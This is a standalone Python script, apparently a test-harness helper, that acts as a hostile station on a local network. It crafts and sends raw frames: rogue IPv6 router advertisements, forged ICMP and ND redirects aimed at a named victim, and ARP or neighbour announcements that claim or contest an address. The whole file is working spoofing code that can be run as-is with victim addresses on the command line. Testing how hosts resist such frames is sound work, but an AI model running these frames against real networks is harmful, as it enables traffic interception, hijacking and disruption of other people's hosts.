"""A hostile station on the outside network: the frames by which hosts are led astray.

Stands alone (standard library only), as `partner` does:

    python -I -S rogue.py LINK advertise SENDER PREFIX
    python -I -S rogue.py LINK redirect VICTIM_MAC SENDER VICTIM DESTINATION NEXT_HOP [PORT PORT]
    python -I -S rogue.py LINK announce ADDRESS
    python -I -S rogue.py LINK defend ADDRESS [by-answer]

1. `advertise` sends a router advertisement: a default route, an autonomous prefix, an MTU
   (RFC 4861 §4.2).
2. `redirect` tells the victim, in the name of SENDER, to reach DESTINATION by NEXT_HOP (RFC 792;
   RFC 4861 §4.5). The IPv4 one quotes a datagram of the victim's, from the first port to the
   second: nobody believes one without.
3. `announce` tells all that an address is here. `defend` does so as soon as somebody else has, and
   answers no question: a holder that was asleep while it was probed for (RFC 5227 §2.4);
   `by-answer` it tells that one alone, as BSD does. Says `ready`, then `defended`, and ends.
"""

from __future__ import annotations

import socket
import struct
import sys
from ipaddress import IPv4Address, IPv6Address, ip_address

ALL_NODES = IPv6Address("ff02::1")
ALL_NODES_MAC = b"\x33\x33\0\0\0\1"
BROADCAST = b"\xff" * 6
ETH_P_ALL = 3
ETHERTYPES = {4: b"\x08\x00", 6: b"\x86\xdd"}
LIFETIME_S = 1800


def checksum(data: bytes) -> int:
    """The Internet checksum (RFC 1071)."""
    data += bytes(len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def icmpv6(source: IPv6Address, destination: IPv6Address, body: bytes) -> bytes:
    """An IPv6 packet with an ICMPv6 body, its checksum filled in; hop limit 255 as ND wants it."""
    pseudo = source.packed + destination.packed + struct.pack("!II", len(body), 58)
    body = body[:2] + struct.pack("!H", checksum(pseudo + body)) + body[4:]
    head = struct.pack("!IHBB", 6 << 28, len(body), 58, 255)
    return head + source.packed + destination.packed + body


def ipv4(source: IPv4Address, destination: IPv4Address, protocol: int, body: bytes) -> bytes:
    """An IPv4 packet."""
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(body), 0, 0, 64, protocol, 0)
    head += source.packed + destination.packed
    return head[:10] + struct.pack("!H", checksum(head)) + head[12:] + body


def advertisement(mac: bytes, sender: IPv6Address, prefix: IPv6Address) -> bytes:
    """A router advertisement for a /64."""
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, LIFETIME_S, 0, 0)
    body += struct.pack("!BB6s", 1, 1, mac)
    body += struct.pack("!BBHI", 5, 1, 0, 1280)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, LIFETIME_S, LIFETIME_S, 0) + prefix.packed
    return icmpv6(sender, ALL_NODES, body)


def redirect_v4(
    sender: IPv4Address,
    victim: IPv4Address,
    destination: IPv4Address,
    next_hop: IPv4Address,
    ports: tuple[int, int],
) -> bytes:
    """An ICMP redirect for a host, quoting the victim's own datagram."""
    quoted = ipv4(victim, destination, 17, struct.pack("!HHHH", *ports, 9, 0))
    body = struct.pack("!BBH", 5, 1, 0) + next_hop.packed + quoted
    body = body[:2] + struct.pack("!H", checksum(body)) + body[4:]
    return ipv4(sender, victim, 1, body)


def redirect_v6(
    mac: bytes,
    sender: IPv6Address,
    victim: IPv6Address,
    destination: IPv6Address,
    next_hop: IPv6Address,
) -> bytes:
    """An ND redirect with the next hop's link-layer address, which makes it believable."""
    body = struct.pack("!BBHI", 137, 0, 0, 0) + next_hop.packed + destination.packed
    return icmpv6(sender, victim, body + struct.pack("!BB6s", 2, 1, mac))


def redirect(mac: bytes, *words: str) -> bytes:
    """Either kind of redirect, from the words of the command line."""
    if ":" in words[0]:
        told, victim, destination, next_hop = map(IPv6Address, words[:4])
        return redirect_v6(mac, told, victim, destination, next_hop)
    sender, host, server, gateway = map(IPv4Address, words[:4])
    return redirect_v4(sender, host, server, gateway, (int(words[4]), int(words[5])))


def announcement(mac: bytes, address: IPv4Address | IPv6Address) -> bytes:
    """The frame that tells all that an address is here: ARP announcement, or unsolicited NA."""
    if isinstance(address, IPv4Address):
        body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 1)
        body += mac + address.packed + bytes(6) + address.packed
        return BROADCAST + mac + b"\x08\x06" + body
    advert = struct.pack("!BBHI", 136, 0, 0, 0x2000_0000) + address.packed
    advert += struct.pack("!BB6s", 2, 1, mac)
    return ALL_NODES_MAC + mac + ETHERTYPES[6] + icmpv6(address, ALL_NODES, advert)


def announced(frame: bytes) -> bytes:
    """The address, packed, that a frame announces; nothing if it is no announcement."""
    kind = frame[12:14]
    if kind == b"\x08\x06" and frame[28:32] == frame[38:42]:
        return frame[28:32]
    if kind == ETHERTYPES[6] and frame[20:21] == b"\x3a" and frame[54:55] == b"\x88":
        return frame[62:78]
    return b""


def answer(mac: bytes, address: IPv4Address, other: bytes) -> bytes:
    """The frame that tells one station that an IPv4 address is here."""
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2)
    body += mac + address.packed + other + address.packed
    return other + mac + b"\x08\x06" + body


def defend(sock: socket.socket, address: IPv4Address | IPv6Address, *, by_answer: bool) -> None:
    """Waits until another station announces the address, and objects."""
    mac = sock.getsockname()[4]
    print("ready", flush=True)
    frame = b""
    while frame[6:12] == mac or announced(frame) != address.packed:
        frame = sock.recv(2048)
    if by_answer and isinstance(address, IPv4Address):
        sock.send(answer(mac, address, frame[6:12]))
    else:
        sock.send(announcement(mac, address))
    print("defended", flush=True)


def main() -> None:
    """Sends one frame, or waits for when to send it."""
    link, what, *words = sys.argv[1:]
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as sock:
        sock.bind((link, ETH_P_ALL if what == "defend" else 0))
        mac = sock.getsockname()[4]
        if what == "defend":
            defend(sock, ip_address(words[0]), by_answer=words[1:] == ["by-answer"])
            return
        if what == "announce":
            sock.send(announcement(mac, ip_address(words[0])))
            return
        if what == "advertise":
            sender, prefix = map(IPv6Address, words)
            to, packet = ALL_NODES_MAC, advertisement(mac, sender, prefix)
        else:
            to = bytes.fromhex(words[0].replace(":", ""))
            packet = redirect(mac, *words[1:])
        sock.send(to + mac + ETHERTYPES[packet[0] >> 4] + packet)


if __name__ == "__main__":
    main()
